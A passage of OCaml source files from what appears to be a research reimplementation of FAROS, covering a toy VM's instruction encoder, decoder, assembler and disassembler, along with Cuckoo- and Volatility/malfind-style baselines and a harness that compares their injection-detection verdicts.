(** Contiguous mapped ranges as (vaddr, byte length), sorted. *)

val translate : t -> asid:int -> int -> int
(** Virtual to physical.  Raises {!Page_fault}. *)

val read_u8 : t -> asid:int -> int -> int
val write_u8 : t -> asid:int -> int -> int -> unit

val read : width:int -> t -> asid:int -> int -> int
(** Little-endian; accesses may span pages. *)

val write : width:int -> t -> asid:int -> int -> int -> unit

val read_bytes : t -> asid:int -> int -> int -> Bytes.t
val write_bytes : t -> asid:int -> int -> Bytes.t -> unit

val phys_range : t -> asid:int -> int -> int -> int list
(** Physical addresses of the [len] bytes starting at a virtual address —
    what kernel events report so taint can follow host-side copies. *)
