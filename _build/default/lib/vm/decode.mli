(** Instruction decoder: the inverse of {!Encode}.

    Decoding reads from an abstract byte source so that both the CPU (which
    fetches through the MMU) and the disassembler (which reads flat
    buffers) can share it. *)

exception Invalid_opcode of int

val decode : (int -> int) -> Isa.t * int
(** [decode fetch] decodes one instruction where [fetch off] returns the
    byte at offset [off]; returns the instruction and its encoded length.
    Raises {!Invalid_opcode} (and lets [fetch]'s exceptions, e.g. page
    faults, propagate). *)

val of_bytes : Bytes.t -> int -> Isa.t * int
(** Decode from a flat buffer at an offset. *)
