(* Binary encoding of instructions.

   Instructions must live as bytes in guest memory: FAROS's flagging rule
   inspects the provenance of the *code bytes* of the executing instruction,
   so injected payloads have to travel through the system as data and only
   become code when fetched.

   Layout: one opcode byte, then operands in order.  Registers are one byte.
   Immediates and branch targets are 4-byte little-endian words.  Effective
   addresses are a mode byte (bit0: base present, bit1: index present,
   bits2-3: log2 scale) followed by base byte, index byte and a 4-byte
   displacement. *)

let op_nop = 0x00
let op_halt = 0x01
let op_mov_ri = 0x02
let op_mov_rr = 0x03
let op_load1 = 0x04
let op_load2 = 0x05
let op_load4 = 0x06
let op_store1 = 0x07
let op_store2 = 0x08
let op_store4 = 0x09
let op_lea = 0x0A
let op_push = 0x0B
let op_pop = 0x0C
let op_add_rr = 0x10
let op_add_ri = 0x11
let op_sub_rr = 0x12
let op_sub_ri = 0x13
let op_mul_rr = 0x14
let op_and_rr = 0x15
let op_and_ri = 0x16
let op_or_rr = 0x17
let op_or_ri = 0x18
let op_xor_rr = 0x19
let op_xor_ri = 0x1A
let op_shl_ri = 0x1B
let op_shr_ri = 0x1C
let op_not_r = 0x1D
let op_shl_rr = 0x1E
let op_shr_rr = 0x1F
let op_cmp_rr = 0x20
let op_cmp_ri = 0x21
let op_test_rr = 0x22
let op_jmp = 0x30
let op_jz = 0x31
let op_jnz = 0x32
let op_jl = 0x33
let op_jge = 0x34
let op_jg = 0x35
let op_jle = 0x36
let op_call = 0x40
let op_call_r = 0x41
let op_jmp_r = 0x42
let op_ret = 0x43
let op_syscall = 0x50
let op_int3 = 0x51

let log2_scale = function
  | 1 -> 0
  | 2 -> 1
  | 4 -> 2
  | s -> invalid_arg (Printf.sprintf "Encode: scale %d" s)

let addr_mode (a : Isa.addr) =
  let m = log2_scale a.scale lsl 2 in
  let m = if a.base <> None then m lor 1 else m in
  if a.index <> None then m lor 2 else m

let put_u32 buf v =
  Buffer.add_char buf (Char.chr (v land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 16) land 0xFF));
  Buffer.add_char buf (Char.chr ((v lsr 24) land 0xFF))

let put_reg buf r =
  if r < 0 || r >= Isa.num_regs then
    invalid_arg (Printf.sprintf "Encode: register %d" r);
  Buffer.add_char buf (Char.chr r)

let put_addr buf (a : Isa.addr) =
  Buffer.add_char buf (Char.chr (addr_mode a));
  Buffer.add_char buf (Char.chr (Option.value a.base ~default:0));
  Buffer.add_char buf (Char.chr (Option.value a.index ~default:0));
  put_u32 buf (Word.of_int a.disp)

let op buf o = Buffer.add_char buf (Char.chr o)

let emit buf (i : Isa.t) =
  let rr o a b =
    op buf o;
    put_reg buf a;
    put_reg buf b
  in
  let ri o r v =
    op buf o;
    put_reg buf r;
    put_u32 buf (Word.of_int v)
  in
  let jump o target =
    op buf o;
    put_u32 buf (Word.of_int target)
  in
  match i with
  | Nop -> op buf op_nop
  | Halt -> op buf op_halt
  | Mov_ri (r, v) -> ri op_mov_ri r v
  | Mov_rr (a, b) -> rr op_mov_rr a b
  | Load (w, r, a) ->
    let o =
      match w with
      | 1 -> op_load1
      | 2 -> op_load2
      | 4 -> op_load4
      | _ -> invalid_arg "Encode: load width"
    in
    op buf o;
    put_reg buf r;
    put_addr buf a
  | Store (w, a, r) ->
    let o =
      match w with
      | 1 -> op_store1
      | 2 -> op_store2
      | 4 -> op_store4
      | _ -> invalid_arg "Encode: store width"
    in
    op buf o;
    put_addr buf a;
    put_reg buf r
  | Lea (r, a) ->
    op buf op_lea;
    put_reg buf r;
    put_addr buf a
  | Push r ->
    op buf op_push;
    put_reg buf r
  | Pop r ->
    op buf op_pop;
    put_reg buf r
  | Add_rr (a, b) -> rr op_add_rr a b
  | Add_ri (r, v) -> ri op_add_ri r v
  | Sub_rr (a, b) -> rr op_sub_rr a b
  | Sub_ri (r, v) -> ri op_sub_ri r v
  | Mul_rr (a, b) -> rr op_mul_rr a b
  | And_rr (a, b) -> rr op_and_rr a b
  | And_ri (r, v) -> ri op_and_ri r v
  | Or_rr (a, b) -> rr op_or_rr a b
  | Or_ri (r, v) -> ri op_or_ri r v
  | Xor_rr (a, b) -> rr op_xor_rr a b
  | Xor_ri (r, v) -> ri op_xor_ri r v
  | Shl_ri (r, v) -> ri op_shl_ri r v
  | Shr_ri (r, v) -> ri op_shr_ri r v
  | Shl_rr (a, b) -> rr op_shl_rr a b
  | Shr_rr (a, b) -> rr op_shr_rr a b
  | Not_r r ->
    op buf op_not_r;
    put_reg buf r
  | Cmp_rr (a, b) -> rr op_cmp_rr a b
  | Cmp_ri (r, v) -> ri op_cmp_ri r v
  | Test_rr (a, b) -> rr op_test_rr a b
  | Jmp t -> jump op_jmp t
  | Jz t -> jump op_jz t
  | Jnz t -> jump op_jnz t
  | Jl t -> jump op_jl t
  | Jge t -> jump op_jge t
  | Jg t -> jump op_jg t
  | Jle t -> jump op_jle t
  | Call t -> jump op_call t
  | Call_r r ->
    op buf op_call_r;
    put_reg buf r
  | Jmp_r r ->
    op buf op_jmp_r;
    put_reg buf r
  | Ret -> op buf op_ret
  | Syscall -> op buf op_syscall
  | Int3 -> op buf op_int3

let to_bytes i =
  let buf = Buffer.create 16 in
  emit buf i;
  Buffer.to_bytes buf

(* Encoded length, used by the assembler's first pass. *)
let length (i : Isa.t) =
  match i with
  | Nop | Halt | Ret | Syscall | Int3 -> 1
  | Push _ | Pop _ | Not_r _ | Call_r _ | Jmp_r _ -> 2
  | Mov_rr _ | Add_rr _ | Sub_rr _ | Mul_rr _ | And_rr _ | Or_rr _ | Xor_rr _
  | Shl_rr _ | Shr_rr _ | Cmp_rr _ | Test_rr _ ->
    3
  | Jmp _ | Jz _ | Jnz _ | Jl _ | Jge _ | Jg _ | Jle _ | Call _ -> 5
  | Mov_ri _ | Add_ri _ | Sub_ri _ | And_ri _ | Or_ri _ | Xor_ri _ | Shl_ri _
  | Shr_ri _ | Cmp_ri _ ->
    6
  | Load _ | Lea _ -> 9
  | Store _ -> 9
