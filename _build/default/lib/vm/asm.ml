(* Two-pass assembler with symbolic labels.

   Guest programs — the malware corpus, the benign workloads, the injected
   payloads — are written as [item list] values and assembled at a given
   origin (their virtual load address).  Branch targets are labels; the
   first pass lays out offsets, the second emits bytes. *)

type item =
  | Label of string
  | I of Isa.t  (* an instruction with no symbolic operand *)
  | Jmp_l of string
  | Jz_l of string
  | Jnz_l of string
  | Jl_l of string
  | Jge_l of string
  | Jg_l of string
  | Jle_l of string
  | Call_l of string
  | Mov_label of Isa.reg * string  (* reg <- address of label *)
  | Bytes of string  (* raw data *)
  | U32 of int
  | U32_label of string
  | Space of int  (* zero-filled gap *)
  | Align of int

exception Undefined_label of string
exception Duplicate_label of string

let item_length = function
  | Label _ -> 0
  | I i -> Encode.length i
  | Jmp_l _ | Jz_l _ | Jnz_l _ | Jl_l _ | Jge_l _ | Jg_l _ | Jle_l _
  | Call_l _ ->
    5
  | Mov_label _ -> 6
  | Bytes s -> String.length s
  | U32 _ | U32_label _ -> 4
  | Space n -> n
  | Align _ -> -1 (* position dependent; handled in layout *)

type program = {
  code : Bytes.t;
  symbols : (string * int) list;  (* label -> virtual address *)
  origin : int;
}

let lookup prog name =
  match List.assoc_opt name prog.symbols with
  | Some a -> a
  | None -> raise (Undefined_label name)

let assemble ~origin items =
  (* Pass 1: compute label addresses. *)
  let tbl = Hashtbl.create 64 in
  let pos = ref origin in
  List.iter
    (fun item ->
      match item with
      | Label name ->
        if Hashtbl.mem tbl name then raise (Duplicate_label name);
        Hashtbl.replace tbl name !pos
      | Align n ->
        let r = !pos mod n in
        if r <> 0 then pos := !pos + (n - r)
      | it -> pos := !pos + item_length it)
    items;
  let resolve name =
    match Hashtbl.find_opt tbl name with
    | Some a -> a
    | None -> raise (Undefined_label name)
  in
  (* Pass 2: emit. *)
  let buf = Buffer.create 256 in
  let emit i = Encode.emit buf i in
  List.iter
    (fun item ->
      match item with
      | Label _ -> ()
      | I i -> emit i
      | Jmp_l l -> emit (Jmp (resolve l))
      | Jz_l l -> emit (Jz (resolve l))
      | Jnz_l l -> emit (Jnz (resolve l))
      | Jl_l l -> emit (Jl (resolve l))
      | Jge_l l -> emit (Jge (resolve l))
      | Jg_l l -> emit (Jg (resolve l))
      | Jle_l l -> emit (Jle (resolve l))
      | Call_l l -> emit (Call (resolve l))
      | Mov_label (r, l) -> emit (Mov_ri (r, resolve l))
      | Bytes s -> Buffer.add_string buf s
      | U32 v -> Encode.put_u32 buf (Word.of_int v)
      | U32_label l -> Encode.put_u32 buf (resolve l)
      | Space n -> Buffer.add_string buf (String.make n '\000')
      | Align n ->
        let here = origin + Buffer.length buf in
        let r = here mod n in
        if r <> 0 then Buffer.add_string buf (String.make (n - r) '\000'))
    items;
  {
    code = Buffer.to_bytes buf;
    symbols = Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl [];
    origin;
  }

let length prog = Bytes.length prog.code
