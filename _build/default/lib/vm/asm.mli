(** Two-pass assembler with symbolic labels.

    Guest programs — the malware corpus, the benign workloads, the injected
    payloads — are written as [item list] values and assembled at a given
    origin (their virtual load address). *)

type item =
  | Label of string
  | I of Isa.t  (** an instruction with no symbolic operand *)
  | Jmp_l of string
  | Jz_l of string
  | Jnz_l of string
  | Jl_l of string
  | Jge_l of string
  | Jg_l of string
  | Jle_l of string
  | Call_l of string
  | Mov_label of Isa.reg * string  (** reg <- address of label *)
  | Bytes of string  (** raw data *)
  | U32 of int
  | U32_label of string  (** 4-byte word holding a label's address *)
  | Space of int  (** zero-filled gap *)
  | Align of int

exception Undefined_label of string
exception Duplicate_label of string

type program = {
  code : Bytes.t;
  symbols : (string * int) list;  (** label -> virtual address *)
  origin : int;
}

val lookup : program -> string -> int
(** Address of a label.  Raises {!Undefined_label}. *)

val assemble : origin:int -> item list -> program
(** Two-pass assembly.  Raises {!Undefined_label} / {!Duplicate_label}. *)

val length : program -> int
