(* Instruction decoder: the inverse of {!Encode}.

   Decoding reads from an abstract byte source so that both the CPU (which
   fetches through the MMU) and the disassembler (which reads flat buffers)
   can share it. *)

exception Invalid_opcode of int

type cursor = { fetch : int -> int; mutable pos : int }
(* [fetch off] returns the byte at offset [off]; [pos] advances as we read. *)

let make_cursor fetch = { fetch; pos = 0 }

let u8 c =
  let v = c.fetch c.pos in
  c.pos <- c.pos + 1;
  v

let u32 c =
  let b0 = u8 c in
  let b1 = u8 c in
  let b2 = u8 c in
  let b3 = u8 c in
  b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)

let reg c =
  let r = u8 c in
  if r >= Isa.num_regs then raise (Invalid_opcode r);
  r

let addr c : Isa.addr =
  let mode = u8 c in
  let base_b = u8 c in
  let index_b = u8 c in
  let disp = u32 c in
  let scale = 1 lsl ((mode lsr 2) land 0x3) in
  {
    base = (if mode land 1 <> 0 then Some base_b else None);
    index = (if mode land 2 <> 0 then Some index_b else None);
    scale;
    disp;
  }

(* Decode one instruction from [fetch]; returns the instruction and its
   encoded length. *)
let decode fetch : Isa.t * int =
  let c = make_cursor fetch in
  let opcode = u8 c in
  let i : Isa.t =
    let open Encode in
    if opcode = op_nop then Isa.Nop
    else if opcode = op_halt then Halt
    else if opcode = op_mov_ri then
      let r = reg c in
      Mov_ri (r, u32 c)
    else if opcode = op_mov_rr then
      let a = reg c in
      Mov_rr (a, reg c)
    else if opcode = op_load1 then
      let r = reg c in
      Load (1, r, addr c)
    else if opcode = op_load2 then
      let r = reg c in
      Load (2, r, addr c)
    else if opcode = op_load4 then
      let r = reg c in
      Load (4, r, addr c)
    else if opcode = op_store1 then
      let a = addr c in
      Store (1, a, reg c)
    else if opcode = op_store2 then
      let a = addr c in
      Store (2, a, reg c)
    else if opcode = op_store4 then
      let a = addr c in
      Store (4, a, reg c)
    else if opcode = op_lea then
      let r = reg c in
      Lea (r, addr c)
    else if opcode = op_push then Push (reg c)
    else if opcode = op_pop then Pop (reg c)
    else if opcode = op_add_rr then
      let a = reg c in
      Add_rr (a, reg c)
    else if opcode = op_add_ri then
      let r = reg c in
      Add_ri (r, u32 c)
    else if opcode = op_sub_rr then
      let a = reg c in
      Sub_rr (a, reg c)
    else if opcode = op_sub_ri then
      let r = reg c in
      Sub_ri (r, u32 c)
    else if opcode = op_mul_rr then
      let a = reg c in
      Mul_rr (a, reg c)
    else if opcode = op_and_rr then
      let a = reg c in
      And_rr (a, reg c)
    else if opcode = op_and_ri then
      let r = reg c in
      And_ri (r, u32 c)
    else if opcode = op_or_rr then
      let a = reg c in
      Or_rr (a, reg c)
    else if opcode = op_or_ri then
      let r = reg c in
      Or_ri (r, u32 c)
    else if opcode = op_xor_rr then
      let a = reg c in
      Xor_rr (a, reg c)
    else if opcode = op_xor_ri then
      let r = reg c in
      Xor_ri (r, u32 c)
    else if opcode = op_shl_ri then
      let r = reg c in
      Shl_ri (r, u32 c)
    else if opcode = op_shr_ri then
      let r = reg c in
      Shr_ri (r, u32 c)
    else if opcode = op_not_r then Not_r (reg c)
    else if opcode = op_shl_rr then
      let a = reg c in
      Shl_rr (a, reg c)
    else if opcode = op_shr_rr then
      let a = reg c in
      Shr_rr (a, reg c)
    else if opcode = op_cmp_rr then
      let a = reg c in
      Cmp_rr (a, reg c)
    else if opcode = op_cmp_ri then
      let r = reg c in
      Cmp_ri (r, u32 c)
    else if opcode = op_test_rr then
      let a = reg c in
      Test_rr (a, reg c)
    else if opcode = op_jmp then Jmp (u32 c)
    else if opcode = op_jz then Jz (u32 c)
    else if opcode = op_jnz then Jnz (u32 c)
    else if opcode = op_jl then Jl (u32 c)
    else if opcode = op_jge then Jge (u32 c)
    else if opcode = op_jg then Jg (u32 c)
    else if opcode = op_jle then Jle (u32 c)
    else if opcode = op_call then Call (u32 c)
    else if opcode = op_call_r then Call_r (reg c)
    else if opcode = op_jmp_r then Jmp_r (reg c)
    else if opcode = op_ret then Ret
    else if opcode = op_syscall then Syscall
    else if opcode = op_int3 then Int3
    else raise (Invalid_opcode opcode)
  in
  (i, c.pos)

let of_bytes b off =
  decode (fun i ->
      if off + i >= Bytes.length b then raise (Invalid_opcode (-1))
      else Char.code (Bytes.get b (off + i)))
