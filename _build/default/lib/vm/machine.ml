(* The machine: physical memory plus its MMU.

   CPUs (one per guest thread of control, managed by the kernel's scheduler)
   execute against the shared machine.  Execution hooks let whole-system
   analyses — the FAROS plugin in particular — observe every instruction,
   in the same position PANDA's instrumentation occupies over QEMU. *)

type t = {
  mem : Phys_mem.t;
  mmu : Mmu.t;
  mutable hooks : (Cpu.t -> Cpu.effect -> unit) list;
}

let create () =
  let mem = Phys_mem.create () in
  { mem; mmu = Mmu.create mem; hooks = [] }

(* Hooks run after each successfully executed instruction, in registration
   order. *)
let add_exec_hook t f = t.hooks <- t.hooks @ [ f ]
let clear_exec_hooks t = t.hooks <- []

let step t cpu =
  match Cpu.step cpu t.mmu with
  | Ok eff as r ->
    List.iter (fun f -> f cpu eff) t.hooks;
    r
  | Error _ as r -> r
