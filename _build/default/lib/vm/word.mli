(** 32-bit word arithmetic on top of OCaml's native [int].

    All guest values are kept masked to 32 bits.  Signedness only matters
    for comparisons, where {!to_signed} re-interprets the masked value. *)

val mask : int
(** [0xFFFFFFFF]. *)

val of_int : int -> int
(** Mask to 32 bits. *)

val to_signed : int -> int
(** Reinterpret a masked word as a signed 32-bit value. *)

val add : int -> int -> int
val sub : int -> int -> int
val mul : int -> int -> int
val logand : int -> int -> int
val logor : int -> int -> int
val logxor : int -> int -> int
val lognot : int -> int

val shift_left : int -> int -> int
(** Shift counts of 32 or more yield 0, as the guest ISA specifies. *)

val shift_right : int -> int -> int

val truncate : width:int -> int -> int
(** Truncate to a 1-, 2- or 4-byte access width. *)

val pp : int Fmt.t
