(* Pretty-printer / disassembler for guest instructions. *)

let pp_addr ppf (a : Isa.addr) =
  let parts = ref [] in
  (match a.index with
  | Some i when a.scale <> 1 ->
    parts := Printf.sprintf "%s*%d" (Isa.reg_name i) a.scale :: !parts
  | Some i -> parts := Isa.reg_name i :: !parts
  | None -> ());
  (match a.base with
  | Some b -> parts := Isa.reg_name b :: !parts
  | None -> ());
  let base = String.concat "+" !parts in
  if base = "" then Fmt.pf ppf "[0x%x]" a.disp
  else if a.disp = 0 then Fmt.pf ppf "[%s]" base
  else Fmt.pf ppf "[%s+0x%x]" base a.disp

let pp ppf (i : Isa.t) =
  let r = Isa.reg_name in
  let rr m a b = Fmt.pf ppf "%s %s, %s" m (r a) (r b) in
  let ri m a v = Fmt.pf ppf "%s %s, 0x%x" m (r a) v in
  let jump m t = Fmt.pf ppf "%s 0x%x" m t in
  match i with
  | Nop -> Fmt.string ppf "nop"
  | Halt -> Fmt.string ppf "halt"
  | Mov_ri (a, v) -> ri "mov" a v
  | Mov_rr (a, b) -> rr "mov" a b
  | Load (w, d, a) -> Fmt.pf ppf "load%d %s, %a" w (r d) pp_addr a
  | Store (w, a, s) -> Fmt.pf ppf "store%d %a, %s" w pp_addr a (r s)
  | Lea (d, a) -> Fmt.pf ppf "lea %s, %a" (r d) pp_addr a
  | Push a -> Fmt.pf ppf "push %s" (r a)
  | Pop a -> Fmt.pf ppf "pop %s" (r a)
  | Add_rr (a, b) -> rr "add" a b
  | Add_ri (a, v) -> ri "add" a v
  | Sub_rr (a, b) -> rr "sub" a b
  | Sub_ri (a, v) -> ri "sub" a v
  | Mul_rr (a, b) -> rr "mul" a b
  | And_rr (a, b) -> rr "and" a b
  | And_ri (a, v) -> ri "and" a v
  | Or_rr (a, b) -> rr "or" a b
  | Or_ri (a, v) -> ri "or" a v
  | Xor_rr (a, b) -> rr "xor" a b
  | Xor_ri (a, v) -> ri "xor" a v
  | Shl_ri (a, v) -> ri "shl" a v
  | Shr_ri (a, v) -> ri "shr" a v
  | Shl_rr (a, b) -> rr "shl" a b
  | Shr_rr (a, b) -> rr "shr" a b
  | Not_r a -> Fmt.pf ppf "not %s" (r a)
  | Cmp_rr (a, b) -> rr "cmp" a b
  | Cmp_ri (a, v) -> ri "cmp" a v
  | Test_rr (a, b) -> rr "test" a b
  | Jmp t -> jump "jmp" t
  | Jz t -> jump "jz" t
  | Jnz t -> jump "jnz" t
  | Jl t -> jump "jl" t
  | Jge t -> jump "jge" t
  | Jg t -> jump "jg" t
  | Jle t -> jump "jle" t
  | Call t -> jump "call" t
  | Call_r a -> Fmt.pf ppf "call %s" (r a)
  | Jmp_r a -> Fmt.pf ppf "jmp %s" (r a)
  | Ret -> Fmt.string ppf "ret"
  | Syscall -> Fmt.string ppf "syscall"
  | Int3 -> Fmt.string ppf "int3"

let to_string i = Fmt.str "%a" pp i

(* Disassemble a flat code buffer into (offset, instruction) pairs; stops at
   the first undecodable byte. *)
let buffer b =
  let rec go off acc =
    if off >= Bytes.length b then List.rev acc
    else
      match Decode.of_bytes b off with
      | i, len -> go (off + len) ((off, i) :: acc)
      | exception Decode.Invalid_opcode _ -> List.rev acc
  in
  go 0 []
