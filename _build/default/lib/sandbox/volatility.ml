(* Volatility-style snapshot forensics: pslist and vadinfo analogues.

   [hollowing_suspects] reproduces the manual vadinfo investigation of
   Section VI-B: a process whose image region is missing or whose in-memory
   image bytes no longer match the backing file on disk. *)

type process_entry = { pe_pid : int; pe_name : string; pe_state : string }

let pslist (dump : Memdump.t) =
  List.map
    (fun (pid, name, state) -> { pe_pid = pid; pe_name = name; pe_state = state })
    dump.proc_states

type vad = { vad_vaddr : int; vad_size : int; vad_kind : Memdump.region_kind }

let vadinfo (dump : Memdump.t) pid =
  List.map
    (fun (r : Memdump.region) ->
      { vad_vaddr = r.rg_vaddr; vad_size = r.rg_size; vad_kind = r.rg_kind })
    (Memdump.regions_of dump pid)

(* dlllist: the loader-registered modules of a process.  Reflectively
   loaded DLLs bypass the loader and therefore never appear here — the
   Section VI-B observation that "we failed to identify a trace of our DLL
   under the DLL list". *)
let dlllist (dump : Memdump.t) pid =
  match List.assoc_opt pid dump.proc_modules with Some l -> l | None -> []

(* A process looks hollowed when it has no image-backed region left (the
   attacker unmapped the legitimate image) but does have private memory. *)
let hollowing_suspects (dump : Memdump.t) =
  let pids =
    List.sort_uniq compare (List.map (fun (r : Memdump.region) -> r.rg_pid) dump.regions)
  in
  List.filter
    (fun pid ->
      let vads = vadinfo dump pid in
      (not (List.exists (fun v -> v.vad_kind = Memdump.Image) vads))
      && List.exists (fun v -> v.vad_kind = Memdump.Private) vads)
    pids

let pp_process ppf p = Fmt.pf ppf "%4d  %-24s %s" p.pe_pid p.pe_name p.pe_state
