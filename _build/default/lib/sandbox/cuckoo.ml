(* The Cuckoo-sandbox baseline (Section VI-B).

   An event-based monitor: it hooks *library-level* API calls (the stubs),
   file activity, process lifecycle and network traffic — exactly what real
   sandboxes collect — and takes no position on guest memory.  Raw-syscall
   attacks are invisible to it, and even fully visible injection API calls
   do not let it reconstruct what executed in memory; that asymmetry is
   what the comparison demonstrates. *)

type api_call = {
  ac_pid : Faros_os.Types.pid;
  ac_process : string;
  ac_api : string;
  ac_args : int array;
}

type report = {
  mutable api_calls : api_call list;  (* newest first; stub calls only *)
  mutable raw_syscalls : int;  (* counted but carries no names in real life *)
  mutable files_written : string list;
  mutable files_created : string list;
  mutable files_deleted : string list;
  mutable netflows : Faros_os.Types.flow list;
  mutable processes : (Faros_os.Types.pid * string) list;
  mutable dropped_then_spawned : string list;  (* disk artifact executed *)
  mutable popups : string list;
}

let create_report () =
  {
    api_calls = [];
    raw_syscalls = 0;
    files_written = [];
    files_created = [];
    files_deleted = [];
    netflows = [];
    processes = [];
    dropped_then_spawned = [];
    popups = [];
  }

let add_once item list = if List.mem item list then list else item :: list

let monitor (kernel : Faros_os.Kernel.t) (r : report) (ev : Faros_os.Os_event.t) =
  let name pid = Faros_os.Kstate.proc_name kernel pid in
  match ev with
  | Sys_enter { pid; sysname; args; via_stub; _ } ->
    if via_stub then
      r.api_calls <-
        { ac_pid = pid; ac_process = name pid; ac_api = sysname; ac_args = args }
        :: r.api_calls
    else r.raw_syscalls <- r.raw_syscalls + 1
  | File_opened { path; created; _ } ->
    if created then r.files_created <- add_once path r.files_created
  | File_write { path; _ } -> r.files_written <- add_once path r.files_written
  | File_deleted { path; _ } -> r.files_deleted <- add_once path r.files_deleted
  | Net_connect { flow; _ } -> r.netflows <- add_once flow r.netflows
  | Proc_created { pid; name; _ } ->
    r.processes <- (pid, name) :: r.processes;
    (* classic dropper signature: a file this run wrote is now executing *)
    if List.mem name r.files_written then
      r.dropped_then_spawned <- add_once name r.dropped_then_spawned
  | Popup { text; _ } -> r.popups <- add_once text r.popups
  | _ -> ()

(* Build the plugin + report pair for a kernel. *)
let plugin kernel =
  let report = create_report () in
  ( report,
    Faros_replay.Plugin.make "cuckoo" ~on_os_event:(monitor kernel report) )

(* Cuckoo's own verdict, without memory forensics: it can flag disk-borne
   droppers (artifact written then executed) but has no signal for
   in-memory-only injection. *)
let flags_injection r = r.dropped_then_spawned <> []

let api_call_count r = List.length r.api_calls

let called r api = List.exists (fun c -> c.ac_api = api) r.api_calls

let pp_summary ppf r =
  Fmt.pf ppf
    "@[<v>api calls (hooked): %d@ raw syscalls (unhooked): %d@ files created: %d@ netflows: %d@ processes: %d@ dropper signature: %b@]"
    (api_call_count r) r.raw_syscalls
    (List.length r.files_created)
    (List.length r.netflows)
    (List.length r.processes)
    (flags_injection r)
