(** End-of-run memory snapshot: what Cuckoo hands to Volatility.

    One region per contiguous mapped range of each process (kernel mappings
    excluded), annotated with whether the loader put it there — the VAD
    metadata malfind keys on.  This is a {e single point in time}: anything
    a transient attack scrubbed before the snapshot is simply gone, which
    is the paper's core argument for whole-execution visibility. *)

type region_kind = Image | Stack | Private

type region = {
  rg_pid : Faros_os.Types.pid;
  rg_process : string;
  rg_vaddr : int;
  rg_size : int;
  rg_kind : region_kind;
  rg_data : string;
}

type t = {
  regions : region list;
  proc_states : (int * string * string) list;  (** pid, name, state *)
  proc_modules : (int * string list) list;
      (** per pid: loader-registered modules — what dlllist walks *)
}

val take : Faros_os.Kernel.t -> t
val regions_of : t -> Faros_os.Types.pid -> region list
