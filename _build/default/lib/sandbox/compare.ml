(* The Section VI-B comparison harness: run one sample under
   (a) Cuckoo alone, (b) Cuckoo + Volatility/malfind on the end-of-run
   memory dump, and (c) FAROS record/replay — then line the verdicts up. *)

type verdict = {
  v_sample : string;
  v_cuckoo : bool;  (* event-based sandbox alone *)
  v_malfind : bool;  (* + snapshot forensics *)
  v_malfind_findings : int;
  v_hollowing_vadinfo : bool;
  v_faros : bool;
  v_faros_netflow : bool;  (* provenance links the attack to a netflow *)
  v_faros_sites : int;
  v_api_calls : int;
  v_raw_syscalls : int;
}

let run (sample : Faros_corpus.Registry.sample) : verdict =
  let scenario = sample.scenario in
  (* Live sandboxed run with the Cuckoo monitor attached. *)
  let cuckoo_report = ref None in
  let kernel, _trace =
    Faros_replay.Recorder.record ~max_ticks:scenario.max_ticks
      ~plugins:(fun kernel ->
        let report, plugin = Cuckoo.plugin kernel in
        cuckoo_report := Some report;
        [ plugin ])
      ~setup:(Faros_corpus.Scenario.setup_record scenario)
      ~boot:(Faros_corpus.Scenario.boot scenario)
      ()
  in
  let report = Option.get !cuckoo_report in
  let dump = Memdump.take kernel in
  let findings = Malfind.scan dump in
  (* FAROS workflow on the same sample. *)
  let outcome = Faros_corpus.Scenario.analyze scenario in
  let flags = Core.Report.effective_flags outcome.report in
  {
    v_sample = sample.id;
    v_cuckoo = Cuckoo.flags_injection report;
    v_malfind = findings <> [];
    v_malfind_findings = List.length findings;
    v_hollowing_vadinfo = Volatility.hollowing_suspects dump <> [];
    v_faros = flags <> [];
    v_faros_netflow =
      List.exists
        (fun (f : Core.Report.flag) ->
          Faros_dift.Provenance.has_netflow f.f_instr_prov)
        flags;
    v_faros_sites = List.length (Core.Report.flagged_sites outcome.report);
    v_api_calls = Cuckoo.api_call_count report;
    v_raw_syscalls = report.raw_syscalls;
  }

let pp_header ppf () =
  Fmt.pf ppf "%-36s %-7s %-8s %-9s %-6s %-9s@." "sample" "cuckoo" "malfind"
    "vadinfo" "FAROS" "netflow"

let pp_row ppf v =
  let b x = if x then "yes" else "no" in
  Fmt.pf ppf "%-36s %-7s %-8s %-9s %-6s %-9s@." v.v_sample (b v.v_cuckoo)
    (b v.v_malfind) (b v.v_hollowing_vadinfo) (b v.v_faros) (b v.v_faros_netflow)
