(** malfind: Volatility's injected-code scanner, over our snapshot format.

    Flags private (non-image-backed, non-stack) regions that still contain
    plausible code at snapshot time.  Its two structural assumptions — that
    injected memory looks like code and that it is still there when the
    dump is taken — are exactly what transient attacks violate. *)

type finding = {
  fd_pid : Faros_os.Types.pid;
  fd_process : string;
  fd_vaddr : int;
  fd_instructions : int;
  fd_preview : string;
}

val code_score : string -> int
(** Plausible (non-trivial) instructions decodable from the region start. *)

val min_instructions : int

val scan : Memdump.t -> finding list
val flags : Memdump.t -> bool
val pp_finding : finding Fmt.t
