(* malfind: Volatility's injected-code scanner, over our snapshot format.

   Flags private (non-image-backed, non-stack) regions that still contain
   plausible code at snapshot time.  Its two structural assumptions — that
   injected memory looks like code and that it is still there when the dump
   is taken — are exactly what transient attacks violate. *)

type finding = {
  fd_pid : Faros_os.Types.pid;
  fd_process : string;
  fd_vaddr : int;
  fd_instructions : int;  (* plausible instructions decoded *)
  fd_preview : string;
}

(* Count decodable, non-trivial instructions from the region start. *)
let code_score data =
  let b = Bytes.of_string data in
  let rec go off count =
    if off >= Bytes.length b then count
    else
      match Faros_vm.Decode.of_bytes b off with
      | exception Faros_vm.Decode.Invalid_opcode _ -> count
      | Faros_vm.Isa.Nop, len -> go (off + len) count  (* zero bytes decode as nops *)
      | Faros_vm.Isa.Halt, _ -> count + 1
      | _, len -> go (off + len) (count + 1)
  in
  go 0 0

let min_instructions = 5

let scan (dump : Memdump.t) : finding list =
  List.filter_map
    (fun (r : Memdump.region) ->
      match r.rg_kind with
      | Image | Stack -> None
      | Private ->
        let score = code_score r.rg_data in
        if score >= min_instructions then
          Some
            {
              fd_pid = r.rg_pid;
              fd_process = r.rg_process;
              fd_vaddr = r.rg_vaddr;
              fd_instructions = score;
              fd_preview =
                String.sub r.rg_data 0 (min 16 (String.length r.rg_data));
            }
        else None)
    dump.regions

let flags dump = scan dump <> []

let pp_finding ppf f =
  Fmt.pf ppf "pid %d (%s): private executable region at 0x%08x (%d instrs)"
    f.fd_pid f.fd_process f.fd_vaddr f.fd_instructions
