(* End-of-run memory snapshot: what Cuckoo hands to Volatility.

   One region per contiguous mapped range of each process (kernel mappings
